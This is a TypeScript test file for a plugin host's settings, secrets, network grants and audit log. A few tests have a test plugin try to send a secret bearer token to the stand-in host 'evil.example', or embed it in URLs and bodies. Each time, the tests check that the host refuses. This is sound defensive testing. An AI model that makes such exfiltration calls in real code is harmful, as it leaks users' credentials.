import { readdir, readFile, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { type Json, SETTINGS_LIMITS } from "@rising-bsm/protocol";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { PluginHost } from "../host.ts";
import type { HostOptions } from "../host-options.ts";
import { type LoopbackServer, startLoopbackServer } from "../network/loopback-server.ts";
import { codeOf } from "../testing/expectations.ts";
import { createHostFixture, type HostFixture } from "../testing/host-fixture.ts";

const NAME = "@acme/mailer";
const CANARY = "canary-0f3b1c77d2";
const BASE = "/apps/plugins";

const CODE = `export default { methods: {
  config() { return this.api.config; },
  async send(url, headers, body) {
    const response = await fetch(url, { method: body === undefined ? "GET" : "POST", headers, body });
    return { status: response.status, text: await response.text() };
  },
  everything() { return Object.keys(this.api).concat(Object.getOwnPropertyNames(globalThis)); },
} };`;
const MANIFEST = {
  network: ["api.good.example", "other.example"],
  secrets: [{ name: "token", reason: { en: "To sign in", de: "Zum Anmelden" } }, { name: "spare" }],
  config: {
    type: "object",
    required: ["sender"],
    properties: {
      sender: { type: "string", format: "email" },
      copies: { type: "integer", minimum: 0, maximum: 3, default: 1 },
    },
  },
};

let fixture: HostFixture;
let server: LoopbackServer;
let host: PluginHost;
let seen: { url: string | undefined; auth: string | undefined }[];
const lines: unknown[] = [];
const audited: unknown[] = [];

const note = (message: string, fields?: Record<string, unknown>) =>
  void lines.push([message, fields, String(Object(fields).error)]);
const options = (): Partial<HostOptions> => ({
  network: server.network,
  logger: { info: note, warn: note, error: note },
  audit: (row) => void audited.push(row),
});

beforeAll(async () => {
  seen = [];
  server = await startLoopbackServer((request, response) => {
    seen.push({ url: request.url, auth: request.headers.authorization });
    if (request.url === "/away") {
      response.writeHead(302, { location: server.url("other.example", "/landed") }).end();
    } else if (request.url === "/broken") request.socket.destroy();
    else response.end("fine");
  });
  fixture = await createHostFixture();
  await fixture.market.publish({ name: NAME, version: "1.0.0", code: CODE, manifest: MANIFEST });
  host = await fixture.open(options());
  await host.install(NAME, { grant: "requested" });
});
afterAll(async () => {
  await fixture.close();
  await server.close();
});

const send = (url: string, headers: Json = {}, ...body: Json[]) =>
  host.call(NAME, "send", [url, headers, ...body]);
const auth = { authorization: "Bearer {{secret:token}}" };

test("settings are checked, stored, seen by the next call and kept over a restart", async () => {
  expect(await host.call(NAME, "config")).toEqual({ copies: 1 });
  await expect(host.configure(NAME, { copies: 4, sendr: "x" })).rejects.toMatchObject({
    code: "request_invalid",
    detail: {
      findings: [
        { path: "sender", message: "is required" },
        { path: "copies", message: "must be at most 3" },
        { path: "sendr", fix: 'Did you mean "sender"?' },
      ],
    },
  });
  expect(host.settings(NAME).entered).toEqual({});
  const configured = await host.configure(NAME, { sender: "a@good.example" });
  const effective = { copies: 1, sender: "a@good.example" };
  expect(configured).toMatchObject({ entered: { sender: "a@good.example" }, effective });
  expect(await host.call(NAME, "config")).toEqual(effective);
  await host.close();
  host = await fixture.open(options());
  expect(await host.call(NAME, "config")).toEqual(effective);
});

test("settings have a limit of size, and a plugin without a form takes none", async () => {
  const sender = `${"a".repeat(60)}@${"b".repeat(65_536)}.example`;
  expect(await codeOf(host.configure(NAME, { sender }))).toBe("request_invalid");
  await fixture.market.publish({ name: "@acme/plain", version: "1.0.0" });
  await host.install("@acme/plain");
  expect(await codeOf(host.configure("@acme/plain", { any: 1 }))).toBe("request_invalid");
  expect(await codeOf(host.configure("@acme/plain", {}))).toBe("ok");
  expect(await codeOf(host.configure("@acme/none", {}))).toBe("plugin_not_found");
});

/** The code with which an application without types is refused. */
const untyped = (method: keyof PluginHost, ...args: unknown[]) =>
  codeOf(Promise.resolve().then(() => Reflect.apply(host[method], host, args)));

test("settings are JSON and the host's own, whoever passes or reads them", async () => {
  const before = host.settings(NAME).entered;
  const loop: Record<string, unknown> = {};
  loop["loop"] = loop;
  let deep: Json = 1;
  for (let i = 0; i < 20_000; i += 1) deep = [deep];
  for (const values of [
    loop,
    { sender: deep },
    { sender: 1n },
    null,
    "text",
    ["list"],
    undefined,
  ]) {
    expect(await untyped("configure", NAME, values)).toBe("request_invalid");
  }
  expect(host.settings(NAME).entered).toEqual(before);
  const values = { sender: "mine@good.example" };
  await host.configure(NAME, values);
  values.sender = "yours@good.example";
  Object.assign(host.settings(NAME).entered, { sender: "theirs@good.example" });
  Object.assign(host.settings(NAME).form?.properties ?? {}, { sender: {} });
  expect(host.settings(NAME)).toMatchObject({
    form: MANIFEST.config,
    entered: { sender: "mine@good.example" },
  });
  await host.configure(NAME, before);
});

test("what is taken as a setting also reaches the plugin", async () => {
  const open = { config: { type: "object", additionalProperties: true } };
  await fixture.market.publish({
    name: "@acme/open",
    version: "1.0.0",
    code: CODE,
    manifest: open,
  });
  await host.install("@acme/open");
  let any: Json = 1;
  for (let i = 0; i < SETTINGS_LIMITS.configDepth - 2; i += 1) any = [any];
  await host.configure("@acme/open", { any });
  expect(await host.call("@acme/open", "config")).toEqual({ any });
  expect(await codeOf(host.configure("@acme/open", { any: [[any]] }))).toBe("request_invalid");
});

test("a secret is text", async () => {
  for (const value of [5, undefined, {}, true, ["a"]]) {
    expect(await untyped("setSecret", NAME, "spare", value)).toBe("request_invalid");
  }
});

test("a secret that is not set says so, and one that nobody asked for cannot be entered", async () => {
  const url = server.url("api.good.example", "/");
  expect(await codeOf(send(url, auth))).toBe("conflict_state");
  expect(await codeOf(host.setSecret(NAME, "other", CANARY))).toBe("not_found");
  expect(await host.secrets(NAME)).toEqual([
    { name: "token", reason: { en: "To sign in", de: "Zum Anmelden" }, isSet: false },
    { name: "spare", reason: null, isSet: false },
  ]);
});

test("a secret goes along in headers, to its host alone", async () => {
  await host.setSecret(NAME, "token", CANARY);
  seen = [];
  expect(await send(server.url("api.good.example", "/a"), auth)).toMatchObject({ status: 200 });
  await send(server.url("api.good.example", "/away"), auth);
  expect(seen).toEqual([
    { url: "/a", auth: `Bearer ${CANARY}` },
    { url: "/away", auth: `Bearer ${CANARY}` },
    { url: "/landed", auth: undefined },
  ]);
});

test.each<[string, (url: string) => Promise<Json>]>([
  ["the path", (url) => send(`${url}{{secret:token}}`)],
  ["the query", (url) => send(`${url}?t={{secret:token}}`)],
  ["the query, escaped", (url) => send(`${url}?t=%7B%7bsecret:token}}`)],
  ["the body", (url) => send(url, {}, "t={{secret:token}}")],
  ["a broken placeholder", (url) => send(url, { authorization: "{{secret:token" })],
])("a secret in %s is refused before anything is sent", async (_where, request) => {
  seen = [];
  expect(await codeOf(request(server.url("api.good.example", "/")))).toBe("request_invalid");
  expect(seen).toEqual([]);
});

test("nothing that anybody can read holds the value", async () => {
  const url = server.url("api.good.example", "/broken");
  const refusals = await Promise.all(
    [
      send(url, auth),
      send("https://evil.example/", auth),
      send("https://api.good.example/", auth),
      send(server.url("api.good.example", "/"), { ...auth, "x-too": "x".repeat(20_000) }),
    ].map((done) =>
      done.catch((error: unknown) => [String(error), Object(error).stack, Object(error).detail]),
    ),
  );
  expect(refusals).toHaveLength(4);
  const readable = JSON.stringify([
    refusals,
    lines,
    audited,
    await host.audit({ limit: 1_000 }),
    await host.secrets(NAME),
    host.plugin(NAME),
    host.logs(NAME),
    await host.call(NAME, "everything"),
    await host.call(NAME, "config"),
  ]);
  expect(readable).not.toContain(CANARY);
  expect(readable).toContain("network_");
  for (const file of await readdir(fixture.dataDir, { recursive: true, withFileTypes: true })) {
    if (!file.isFile()) continue;
    const bytes = await readFile(join(file.parentPath, file.name));
    expect(bytes.includes(CANARY), file.name).toBe(false);
  }
});

test("a fetch without a grant is denied by the name of its host", async () => {
  const refused = send("https://evil.example/");
  await expect(refused).rejects.toMatchObject({
    code: "permission_denied",
    message: expect.stringContaining('Add "evil.example" to "network" in manifest.json'),
  });
  const [row] = await host.audit({ plugin: NAME, limit: 1 });
  expect(row).toMatchObject({
    method: "fetch",
    permission: "network:evil.example",
    outcome: "permission_denied",
  });
});

function request(path: string, init: RequestInit & { permissions?: string[] } = {}) {
  const { permissions = ["plugin.manage"], ...rest } = init;
  return host.handle(new Request(`http://host.example${BASE}${path}`, rest), {
    actor: { id: "1", permissions },
    base: BASE,
  });
}

const put = (path: string, body: string, permissions = ["plugin.manage"]) =>
  request(path, { method: "PUT", body, permissions });

test("settings and secrets over HTTP: written, listed, never read back", async () => {
  const settings = `/api/plugins/${NAME}/settings`;
  const secrets = `/api/plugins/${NAME}/secrets`;
  const set = await put(`${secrets}/spare`, JSON.stringify({ value: CANARY }));
  expect([set.status, await set.text()]).toEqual([200, expect.not.stringContaining(CANARY)]);
  expect(await (await request(secrets)).json()).toMatchObject({
    data: [
      { name: "token", isSet: true },
      { name: "spare", isSet: true },
    ],
  });
  const forgotten = await request(`${secrets}/spare`, { method: "DELETE" });
  expect(await forgotten.json()).toMatchObject({ data: [{ isSet: true }, { isSet: false }] });
  for (const body of [
    `{"value":"${CANARY}"`,
    `{"value":["${CANARY}"]}`,
    `{"value":"${CANARY}\\n"}`,
  ]) {
    const refused = await put(`${secrets}/spare`, body);
    expect([refused.status, await refused.text()]).toEqual([
      400,
      expect.not.stringContaining(CANARY),
    ]);
  }
  expect((await put(`${secrets}/none`, '{"value":"x"}')).status).toBe(404);
  const configured = await put(settings, '{"sender":"b@good.example","copies":2}');
  expect(await configured.json()).toMatchObject({ data: { effective: { copies: 2 } } });
  expect(await (await put(settings, '{"copies":"2"}')).json()).toMatchObject({
    code: "request_invalid",
    findings: [{ path: "sender" }, { path: "copies", message: "must be a whole number" }],
  });
  expect(await (await request(settings)).json()).toMatchObject({
    data: { entered: { copies: 2 }, form: { required: ["sender"] } },
  });
});

test("of an audit of less than nothing nothing is read", async () => {
  expect(await host.audit({ limit: -1 })).toEqual([]);
});

test("the audit over HTTP, newest first, of one plugin", async () => {
  const found = await request(`/api/audit?plugin=${encodeURIComponent(NAME)}&limit=2`);
  const { data } = Object(await found.json());
  expect(data).toHaveLength(2);
  expect(data[0].at).toBeGreaterThanOrEqual(data[1].at);
  expect(await (await request("/api/audit?plugin=@acme/none")).json()).toEqual({ data: [] });
  for (const limit of ["0", "1001", "x"])
    expect((await request(`/api/audit?limit=${limit}`)).status).toBe(400);
});

test("whoever may only look at plugins sees none of this", async () => {
  const permissions = ["plugin.view", "plugin.install"];
  const refused = await Promise.all([
    request(`/api/plugins/${NAME}/settings`, { permissions }),
    put(`/api/plugins/${NAME}/settings`, "{}", permissions),
    request(`/api/plugins/${NAME}/secrets`, { permissions }),
    put(`/api/plugins/${NAME}/secrets/token`, '{"value":"x"}', permissions),
    request(`/api/plugins/${NAME}/secrets/token`, { method: "DELETE", permissions }),
    request("/api/audit", { permissions }),
  ]);
  expect(refused.map(({ status }) => status)).toEqual([403, 403, 403, 403, 403, 403]);
});

test("a damaged key file stops what needs a secret, and nothing else", async () => {
  const file = join(fixture.dataDir, "secrets.key");
  const key = await readFile(file);
  expect((await stat(file)).mode & 0o777).toBe(0o600);
  await host.close();
  await writeFile(file, "damaged");
  host = await fixture.open(options());
  const url = server.url("api.good.example", "/");
  expect(await send(url)).toMatchObject({ status: 200 });
  expect(await codeOf(send(url, auth))).toBe("conflict_state");
  expect(await codeOf(host.setSecret(NAME, "spare", "x"))).toBe("conflict_state");
  expect(await readFile(file, "utf8")).toBe("damaged");
  await writeFile(file, key);
  expect(await send(url, auth)).toMatchObject({ status: 200 });
});

test("secrets go with an uninstallation, and stay with one that keeps data", async () => {
  await host.uninstall(NAME, { keepData: true });
  await host.install(NAME, { grant: "requested" });
  expect(await host.secrets(NAME)).toMatchObject([{ name: "token", isSet: true }, {}]);
  await host.uninstall(NAME);
  await host.install(NAME, { grant: "requested" });
  expect(await host.secrets(NAME)).toMatchObject([{ name: "token", isSet: false }, {}]);
});
